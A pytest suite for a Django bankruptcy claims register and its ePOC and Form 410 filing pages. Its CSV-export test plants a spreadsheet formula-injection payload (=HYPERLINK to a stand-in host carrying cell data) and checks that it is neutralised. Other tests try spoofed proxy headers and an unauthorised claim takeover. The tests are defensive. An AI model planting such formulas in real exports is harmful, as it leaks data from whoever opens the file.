"""The claims pages through the test client: register, CSV, Form 410 with a login, ePOC."""

import csv
import datetime as dt
import io
import re

import pytest
import testkit
from claimkit import (
    case_fixture,  # noqa: F401 (the `case` fixture)
    claim_data,
)
from django.core import signing
from django.urls import reverse

from cases.models import Case
from dockets.claims import claim_events, services
from dockets.claims.bulk import load_claims
from dockets.claims.epoc_forms import HUMAN_SALT
from dockets.claims.models import Claim, ClaimVersion

pytestmark = pytest.mark.django_db


def _epoc_form(client, case) -> dict:
    """GET the ePOC page and return the hidden fields plus the right human-check answer."""
    response = client.get(reverse("dockets:epoc", kwargs={"case_id": case.pk}))
    assert response.status_code == 200
    html = response.content.decode()
    hidden = dict(
        re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html)
    )
    answer = signing.loads(hidden["human_token"], salt=HUMAN_SALT)["a"]
    return {
        "human_token": hidden["human_token"],
        "submission": hidden["submission"],
        "human_answer": str(answer),
    }


def _epoc_review(client, url: str, data: dict) -> dict:
    """Post the ePOC answers; return them with the review page's signature tokens.

    Files chosen in the answers step travel as the review page's `kept` tokens.
    """
    response = client.post(url, data)
    html = response.content.decode()
    assert response.status_code == 200, html[:3000]
    assert "Official Form 410 as it will be filed" in html
    signed = {k: v for k, v in data.items() if k != "attachments"}
    signed["reviewed"] = testkit.search(r'name="reviewed" value="([^"]+)"', html).group(
        1
    )
    signed["kept"] = re.findall(r'name="kept" value="([^"]+)"', html)
    token = testkit.search(r'name="human_token" value="([^"]+)"', html).group(1)
    signed["human_token"] = token
    signed["human_answer"] = str(signing.loads(token, salt=HUMAN_SALT)["a"])
    return signed


def _epoc_file(client, url: str, data: dict):
    """Answer, review and sign: the whole ePOC filing as a browser makes it."""
    return client.post(url, _epoc_review(client, url, data))


def _epoc_post(**overrides) -> dict:
    data = {
        "creditor_name": "Sharp Memorial Hospital",
        "creditor_address": "7901 Frost Street\nSan Diego, CA 92123",
        "creditor_email": "billing@sharp.test",
        "amount": "32,611.40",
        "secured": "",
        "priority": "",
        "unsecured": "32,611.40",
        "admin": "",
        "basis": "Medical services",
        "account_last4": "5521",
        "signer_name": "Ana Ruiz",
        "redaction_ack": "on",
        "website": "",
    }
    data.update(overrides)
    return data


def test_register_shows_claims_history_and_totals_to_the_public(client, case, users):
    """Anyone can read the register: header, each claim with history, totals and the disclaimer."""
    services.file_claim(case=case, data=claim_data(), filer=users["creditor"])
    services.file_claim(
        case=case,
        data=claim_data(
            creditor_name="Capital One",
            amount_cents=50_000,
            secured_cents=0,
            unsecured_cents=50_000,
        ),
        epoc=True,
    )
    response = client.get(
        reverse("dockets:claims-register", kwargs={"case_id": case.pk})
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert (
        case.display_number in html
        and "Laura S. Taylor" in html
        and "Gerald H. Davis" in html
    )
    assert (
        "Claim #1 filed by Coastal Federal Credit Union, Amount claimed: $32,611.40"
        in html
    )
    assert "Total Number Of Claims: <strong>2</strong>" in html
    assert "$33,111.40" in html  # total claimed: 32,611.40 + 500
    assert (
        "The values are reflective of the data entered. Always refer to claim documents for actual amounts."
        in html
    )


def test_register_page_has_a_fixed_query_budget(
    client, case, users, django_assert_max_num_queries
):
    """The register's query count does not grow with the number of claims on the page."""
    load_claims(case_id=case.pk, count=150)
    services.file_claim(case=case, data=claim_data(), filer=users["creditor"])
    url = reverse("dockets:claims-register", kwargs={"case_id": case.pk})
    with django_assert_max_num_queries(12):
        response = client.get(url)
    assert response.status_code == 200
    with django_assert_max_num_queries(12):
        client.get(url + "?page=last")


def test_register_pages_by_keyset_first_next_last_previous(client, case):
    """250 claims: the first page holds 1-100, next 101-200, last 151-250, previous from there 51-150."""
    load_claims(case_id=case.pk, count=250)
    url = reverse("dockets:claims-register", kwargs={"case_id": case.pk})

    def numbers(query: str) -> list[int]:
        html = client.get(url + query).content.decode()
        return [int(n) for n in re.findall(r'id="claim-(\d+)-title"', html)]

    assert numbers("") == list(range(1, 101))
    assert numbers("?after=100") == list(range(101, 201))
    assert numbers("?page=last") == list(range(151, 251))
    assert numbers("?before=151") == list(range(51, 151))
    assert numbers("?order=-number") == list(range(250, 150, -1))
    assert numbers("?order=creditor&after=10") == list(range(11, 111))


def test_register_filters_by_number_date_and_creditor_with_matching_totals(
    client, case
):
    """Filters narrow the claims and the footer totals follow the filter."""
    load_claims(case_id=case.pk, count=30)
    url = reverse("dockets:claims-register", kwargs={"case_id": case.pk})
    html = client.get(url + "?number_from=5&number_to=7").content.decode()
    assert re.findall(r'id="claim-(\d+)-title"', html) == ["5", "6", "7"]
    expected = sum(
        Claim.objects.filter(case=case, number__in=[5, 6, 7]).values_list(
            "amount_cents", flat=True
        )
    )
    from dockets.text import money

    assert "Total Number Of Claims: <strong>3</strong>" in html
    assert money(expected) in html
    html = client.get(url + "?creditor=000012").content.decode()
    assert re.findall(r'id="claim-(\d+)-title"', html) == ["12"]
    bad = client.get(url + "?number_from=9&number_to=2")
    assert bad.status_code == 200
    assert "must not be lower" in bad.content.decode()


def test_csv_export_streams_every_claim(client, case):
    """The CSV export streams all claims (with a header) and honours the filter."""
    load_claims(case_id=case.pk, count=120)
    url = reverse("dockets:claims-csv", kwargs={"case_id": case.pk})
    response = client.get(url)
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][0] == "Claim No."
    assert len(rows) == 121
    assert rows[1][:3] == ["1", "1-1", "Creditor 000001 LLC"]
    filtered = client.get(url + "?number_from=100")
    assert (
        len(
            list(csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode())))
        )
        == 22
    )


def test_csv_export_never_starts_a_cell_with_a_formula(client, case):
    """A creditor name planted by an anonymous ePOC filer is text in the export."""
    from claimkit import claim_data

    planted = '=HYPERLINK("https://x.example/?"&A1,"Click")'
    services.file_claim(case=case, data=claim_data(creditor_name=planted), epoc=True)
    services.file_claim(
        case=case, data=claim_data(creditor_name="@SUM(A1:A9)"), epoc=True
    )
    url = reverse("dockets:claims-csv", kwargs={"case_id": case.pk})
    text = b"".join(client.get(url).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + planted
    assert rows[2][2] == "'@SUM(A1:A9)"
    assert not [
        c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_cmecf_address_reaches_the_register(client, case):
    """/cgi-bin/SearchClaims.pl?<case id> serves CM/ECF's register markup, no redirect."""
    response = client.get(f"/cgi-bin/SearchClaims.pl?{case.pk}")
    assert response.status_code == 200
    assert "Claims Register" in response.content.decode()
    assert client.get("/cgi-bin/SearchClaims.pl?999999").status_code == 404
    assert (
        client.get(
            reverse("dockets:claims-register", kwargs={"case_id": 999999})
        ).status_code
        == 404
    )


def test_certified_creditor_files_a_claim_with_a_login(client, case, users):
    """A certified creditor fills Form 410 and lands on the claim's page as claim 1-1."""
    client.force_login(users["creditor"])
    url = reverse("dockets:claim-file", kwargs={"case_id": case.pk})
    page = client.get(url)
    assert page.status_code == 200
    submission = testkit.search(
        r'name="submission" value="([^"]+)"', page.content.decode()
    ).group(1)
    data = _epoc_post(submission=submission)
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    again = client.post(url, data)
    assert again["Location"] == response["Location"], (
        "a second submit of the same form files nothing new"
    )
    claim = Claim.objects.get(case=case)
    assert response["Location"] == reverse(
        "dockets:claim-detail", kwargs={"claim_id": claim.pk}
    )
    assert claim.filed_by == users["creditor"] and not claim.epoc
    page = client.get(response["Location"]).content.decode()
    assert "Claim 1-1" in page and "Amend this claim" in page


def test_public_user_cannot_file_with_a_login_and_is_pointed_to_epoc(
    client, case, users
):
    """A login without filing rights is told why and shown the ePOC form instead; nothing is filed."""
    client.force_login(users["public"])
    url = reverse("dockets:claim-file", kwargs={"case_id": case.pk})
    response = client.post(url, _epoc_post())
    html = response.content.decode()
    assert "no filing rights" in html
    assert reverse("dockets:epoc", kwargs={"case_id": case.pk}) in html
    assert not Claim.objects.exists()


def test_epoc_files_a_claim_without_a_login_and_gives_a_stamped_copy(client, case):
    """ePOC: the filer gets the claim number and a stamped Form 410 to download."""
    fields = _epoc_form(client, case)
    response = _epoc_file(
        client,
        reverse("dockets:epoc", kwargs={"case_id": case.pk}),
        _epoc_post(**fields),
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    claim = Claim.objects.get(case=case)
    assert claim.epoc and claim.filed_by is None and claim.number == 1
    receipt = client.get(response["Location"])
    html = receipt.content.decode()
    assert (
        "Claim 1-1 filed" in html and "Your claim number is <strong>1</strong>" in html
    )
    link = testkit.search(r'href="([^"]+/0\.pdf)"', html).group(1)
    pdf = client.get(link)
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    from pypdf import PdfReader

    text = PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    assert (
        f"Case {case.display_number}" in text
        and "Claim 1-1" in text
        and "Page 1 of" in text
    )


def test_epoc_submitted_twice_files_once(client, case):
    """Submitting the same ePOC form twice shows the same claim; nothing is saved twice."""
    url = reverse("dockets:epoc", kwargs={"case_id": case.pk})
    data = _epoc_review(client, url, _epoc_post(**_epoc_form(client, case)))
    first = client.post(url, data)
    second = client.post(url, data)
    assert first.status_code == second.status_code == 302
    # Both lead to the receipt of the one claim filed (the signed link carries the
    # second it was signed in, so the two addresses may differ in that alone).
    assert [_receipt_version_id(first), _receipt_version_id(second)] == [
        ClaimVersion.objects.get().pk
    ] * 2
    assert Claim.objects.count() == 1 and ClaimVersion.objects.count() == 1


def _receipt_version_id(response) -> int:
    from django.core import signing

    from dockets.claims.notices import RECEIPT_SALT

    token = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    return signing.loads(token, salt=RECEIPT_SALT)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"unsecured": "32,611.39"}, "do not add up"),
        ({"amount": "-5", "unsecured": "-5"}, "cannot be negative"),
        (
            {"amount": "100000000000.01", "unsecured": "100000000000.01"},
            "more than $100,000,000,000",
        ),
        ({"basis": "Medical services for SSN 512-34-5678"}, "9037"),
        ({"account_last4": "4111111111111111"}, "Enter only the last 4 digits"),
        ({"human_answer": "99"}, "not the right answer"),
        ({"redaction_ack": ""}, "This field is required"),
    ],
)
def test_epoc_bad_input_gets_a_clear_message_and_saves_nothing(
    client, case, overrides, message
):
    """Bad ePOC input is answered with the reason, the form again, and no claim;
    a wrong answer is refused at the answers step, a missing signature when signing."""
    url = reverse("dockets:epoc", kwargs={"case_id": case.pk})
    data = _epoc_review(client, url, _epoc_post(**_epoc_form(client, case)))
    data.update(overrides)
    response = client.post(url, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Claim.objects.exists()


def test_epoc_honeypot_refuses_bots(client, case):
    """A filled honeypot field is refused."""
    data = _epoc_post(**_epoc_form(client, case), website="http://spam.test")
    response = client.post(reverse("dockets:epoc", kwargs={"case_id": case.pk}), data)
    assert response.status_code == 400
    assert not Claim.objects.exists()


def test_epoc_rate_limit_per_address(client, case, settings):
    """Past the hourly limit per IP address, ePOC answers 429 with a plain message."""
    # A limit of 1 keeps the two requests close together: the test Redis is shared, and
    # another run's cache.clear() between them would reset the counter.
    settings.ACCOUNT_RATE_LIMITS = {**settings.ACCOUNT_RATE_LIMITS, "epoc": "1/h/ip"}
    url = reverse("dockets:epoc", kwargs={"case_id": case.pk})
    proxy = {"REMOTE_ADDR": "10.0.0.1"}
    settings.ECF_TRUSTED_PROXY_COUNT = 1
    first = client.post(url, {}, HTTP_X_FORWARDED_FOR="198.51.100.7", **proxy)
    assert first.status_code == 400
    # Rotating a spoofed address left of the proxy's changes nothing: same client.
    response = client.post(
        url, {}, HTTP_X_FORWARDED_FOR="203.0.113.9, 198.51.100.7", **proxy
    )
    assert response.status_code == 429
    assert "Too many claims" in response.content.decode()
    # Another client behind the same proxy has its own budget.
    other = client.post(url, {}, HTTP_X_FORWARDED_FOR="198.51.100.8", **proxy)
    assert other.status_code == 400


def test_epoc_not_offered_with_a_claims_agent_or_in_a_closed_case(client, case):
    """A case with a claims agent sends filers to the agent; a closed case takes no claims."""
    url = reverse("dockets:epoc", kwargs={"case_id": case.pk})
    Case.objects.filter(pk=case.pk).update(has_claims_agent=True)
    assert "claims agent" in client.get(url).content.decode()
    assert client.post(url, _epoc_post()).status_code == 200
    Case.objects.filter(pk=case.pk).update(
        has_claims_agent=False, status=Case.Status.CLOSED
    )
    assert "Claims cannot be filed" in client.get(url).content.decode()
    assert not Claim.objects.exists()
    assert (
        client.get(reverse("dockets:epoc", kwargs={"case_id": 987654})).status_code
        == 404
    )


def test_epoc_start_finds_the_case_by_number(client, case):
    """The public ePOC start page takes a case number and explains a wrong one."""
    url = reverse("dockets:epoc-start")
    response = client.get(url, {"case_number": case.display_number})
    assert response.status_code == 302
    assert response["Location"] == reverse("dockets:epoc", kwargs={"case_id": case.pk})
    assert "No case" in client.get(url, {"case_number": "26-99999"}).content.decode()
    assert (
        "not a case number"
        in client.get(url, {"case_number": "hello"}).content.decode()
    )


def test_claim_actions_through_the_pages(client, case, users):
    """The filer withdraws; the clerk corrects and marks the wrong case; others may not."""
    claim = services.file_claim(
        case=case, data=claim_data(), filer=users["creditor"]
    ).claim
    other = services.file_claim(case=case, data=claim_data(), epoc=True).claim
    client.force_login(users["attorney2"])
    assert (
        client.get(
            reverse("dockets:claim-withdraw", kwargs={"claim_id": claim.pk})
        ).status_code
        == 404
    )
    client.force_login(users["creditor"])
    response = client.post(
        reverse("dockets:claim-withdraw", kwargs={"claim_id": claim.pk}),
        {"confirm": "on"},
    )
    assert response.status_code == 302
    claim.refresh_from_db()
    assert claim.status == Claim.Status.WITHDRAWN
    client.force_login(users["clerk"])
    response = client.post(
        reverse("dockets:claim-correct", kwargs={"claim_id": other.pk}),
        {
            "creditor_name": "Coastal Federal Credit Union",
            "creditor_address": "P.O. Box 9000",
            "amount": "32,611.40",
            "secured": "10,000",
            "priority": "",
            "unsecured": "22,611.40",
            "admin": "",
            "allowed_secured": "",
            "allowed_priority": "",
            "allowed_unsecured": "",
            "allowed_admin": "",
            "description": "Money loaned",
            "remark": "Address per creditor's letter",
        },
    )
    assert response.status_code == 302
    client.post(reverse("dockets:claim-wrong-case", kwargs={"claim_id": other.pk}))
    html = client.get(
        reverse("dockets:claims-register", kwargs={"case_id": case.pk})
    ).content.decode()
    assert "Clerk&#x27;s Note: Address per creditor&#x27;s letter" in html
    assert "PLEASE DISREGARD - Claim filed in the wrong case" in html
    assert "Total Number Of Claims: <strong>0</strong>" in html


def test_transfer_shows_the_new_holder_on_the_register(client, case, users, tmp_path):
    """The register shows the pending transfer with its objection deadline, and the
    transferee as holder once the objection period has passed."""
    from pdfmaker import make_pdf

    from dockets.services import UploadedDocument

    claim = services.file_claim(
        case=case, data=claim_data(), filer=users["creditor"]
    ).claim
    path = make_pdf(tmp_path / "form2100a.pdf", text="Form 2100A")
    claim_events.transfer_claim(
        claim=claim,
        filer=users["attorney2"],
        transferee_name="Jefferson Capital Systems LLC",
        transferee_address="P.O. Box 7999",
        document=UploadedDocument.from_path(
            path, filename="form2100a.pdf", page_count=1
        ),
    )
    url = reverse("dockets:claims-register", kwargs={"case_id": case.pk})
    html = client.get(url).content.decode()
    assert "Claim No. 1: Coastal Federal Credit Union" in html
    assert "Objections due by" in html
    assert (
        "Transferor: Coastal Federal Credit Union To Jefferson Capital Systems LLC"
        in html
    )
    deadline = claim.transfers.get().objection_deadline
    claim_events.complete_due_transfers(today=deadline + dt.timedelta(days=1))
    html = client.get(url).content.decode()
    assert "Claim No. 1: Jefferson Capital Systems LLC" in html


def test_epoc_attachment_that_is_not_a_pdf_is_refused_with_its_name(client, case):
    """A supporting document that is not a PDF is refused, naming the file; nothing is filed."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = _epoc_post(**_epoc_form(client, case))
    data["attachments"] = SimpleUploadedFile(
        "statement.pdf",
        b"PK\x03\x04 this is a zip, not a pdf",
        content_type="application/pdf",
    )
    response = client.post(reverse("dockets:epoc", kwargs={"case_id": case.pk}), data)
    assert response.status_code == 400
    assert "statement.pdf:" in response.content.decode()
    assert not Claim.objects.exists()


def test_epoc_with_a_valid_pdf_attachment_files_it_after_form_410(
    client, case, tmp_path
):
    """Supporting PDFs are validated and filed after the generated Form 410."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from pdfmaker import pdf_bytes

    data = _epoc_post(**_epoc_form(client, case))
    data["attachments"] = [
        SimpleUploadedFile(
            "Itemized statement.pdf",
            pdf_bytes(text="Itemized statement"),
            "application/pdf",
        ),
        SimpleUploadedFile(
            "Security agreement.pdf",
            pdf_bytes(text="Security agreement"),
            "application/pdf",
        ),
    ]
    response = _epoc_file(
        client, reverse("dockets:epoc", kwargs={"case_id": case.pk}), data
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    entry = ClaimVersion.objects.get().entry
    assert entry is not None
    assert list(
        entry.documents.order_by("sequence").values_list("description", flat=True)
    ) == [
        "Main Document",
        "Itemized statement",
        "Security agreement",
    ]


def test_epoc_amends_a_claim_only_with_its_own_code(client, case):
    """ePOC "Claim number this amends" files version 1-2 only with the claim's code
    (printed on the original receipt, never on the register); without it nothing changes."""
    from core.crypto import decrypt
    from core.models import AuditEvent

    original = services.file_claim(case=case, data=claim_data(), epoc=True)
    first = original.claim
    code = decrypt(first.epoc_code_encrypted)
    assert len(code) == 19
    url = reverse("dockets:epoc", kwargs={"case_id": case.pk})
    wrong = client.post(url, _epoc_post(**_epoc_form(client, case), amends="7"))
    assert wrong.status_code == 400
    assert "There is no claim 7" in wrong.content.decode()
    before = (first.creditor_name, first.payment_address, first.amount_cents)
    audit_before = AuditEvent.objects.count()
    for attempt in ("", "AAAA-BBBB-CCCC-DDDD"):
        refused = _epoc_file(
            client,
            url,
            _epoc_post(
                **_epoc_form(client, case),
                amends=str(first.number),
                claim_code=attempt,
                creditor_name="Mallory Redirect LLC",
            ),
        )
        assert refused.status_code == 400
        assert "Nothing was filed" in refused.content.decode()
        first.refresh_from_db()
        assert first.label == "1-1"
        assert (
            first.creditor_name,
            first.payment_address,
            first.amount_cents,
        ) == before
    assert AuditEvent.objects.count() == audit_before
    register = client.get(reverse("dockets:claims-register", args=[case.pk]))
    assert code not in register.content.decode()
    from dockets.claims.notices import receipt_token

    receipt = client.get(
        reverse("dockets:epoc-receipt", kwargs={"token": receipt_token(original.pk)})
    )
    assert code in receipt.content.decode()
    response = _epoc_file(
        client,
        url,
        _epoc_post(
            **_epoc_form(client, case),
            amends=str(first.number),
            claim_code=code.lower().replace("-", " "),
        ),
    )
    assert response.status_code == 302
    first.refresh_from_db()
    assert first.label == "1-2"
    assert first.creditor_name == "Sharp Memorial Hospital"
    assert Claim.objects.count() == 1
    page = client.get(response["Location"]).content.decode()
    assert "Claim 1-2 filed" in page
    assert code not in page  # the code is on the original receipt only


@pytest.mark.parametrize(
    "query", [{}, {"after": 1500}, {"last": True}, {"before": 2000}]
)
def test_register_pages_walk_the_case_number_index(case, query):
    """Each keyset page reads the (case, number) index from its edge: no sort, no offset."""
    from django.db import connection

    from dockets.claims.models import Claim as ClaimModel
    from dockets.claims.selectors import _keyset

    load_claims(case_id=case.pk, count=3000)
    cursor = None
    if "after" in query or "before" in query:
        cursor = ClaimModel.objects.get(
            case=case, number=query.get("after") or query.get("before")
        )
    forward = "before" not in query and "last" not in query
    qs = _keyset(
        ClaimModel.objects.filter(case=case),
        order="number",
        cursor=cursor,
        forward=forward,
    )[:101]
    sql, params = qs.query.sql_with_params()
    with connection.cursor() as db:
        db.execute("EXPLAIN " + sql, params)
        plan = "\n".join(row[0] for row in db.fetchall())
    assert "claim_number_unique" in plan, plan
    assert "Sort" not in plan, plan


def test_my_claims_lists_the_filers_claims_in_every_case(
    client, case, demo, users, django_assert_max_num_queries
):
    """A creditor's "My claims" lists the claims it filed across cases, with a fixed query count."""
    from claimkit import make_case

    other = make_case(demo, title="James T. Whitfield")
    for target in (case, other, other):
        services.file_claim(case=target, data=claim_data(), filer=users["creditor"])
    services.file_claim(
        case=case, data=claim_data(creditor_name="Someone Else"), epoc=True
    )
    client.force_login(users["creditor"])
    with django_assert_max_num_queries(12):
        response = client.get(reverse("dockets:my-claims"))
    html = response.content.decode()
    assert len(re.findall(r'href="/claims/\d+/"', html)) == 3
    assert "Someone Else" not in html
    assert other.display_number in html and case.display_number in html


def test_bulk_load_moves_the_maintained_totals_by_exactly_its_claims(case, users):
    """The footer's totals row after a bulk load equals an aggregate over every claim."""
    from dockets.claims.selectors import aggregate_totals, case_totals

    services.file_claim(case=case, data=claim_data(), filer=users["creditor"])
    load_claims(case_id=case.pk, count=40)
    load_claims(case_id=case.pk, count=7)
    expected = aggregate_totals(Claim.objects.filter(case=case))
    assert expected["count"] == 48
    assert case_totals(case) == expected


def test_filing_a_claim_has_a_fixed_statement_budget(
    client, case, users, django_assert_max_num_queries
):
    """A claim POST with a login (Form 410 rendered, a new creditor added to the case,
    the claim numbered and docketed, its NEF queued) costs a fixed number of SQL
    statements, whatever the number of claims already in the case."""
    client.force_login(users["creditor"])
    url = reverse("dockets:claim-file", kwargs={"case_id": case.pk})

    def fill(name: str) -> dict:
        page = client.get(url).content.decode()
        token = testkit.search(r'name="submission" value="([^"]+)"', page).group(1)
        return _epoc_post(submission=token, creditor_name=name)

    assert client.post(url, fill("First Creditor LLC")).status_code == 302
    data = fill("Second Creditor LLC")
    with django_assert_max_num_queries(33):
        response = client.post(url, data)
    assert response.status_code == 302
    assert Claim.objects.filter(case=case).count() == 2
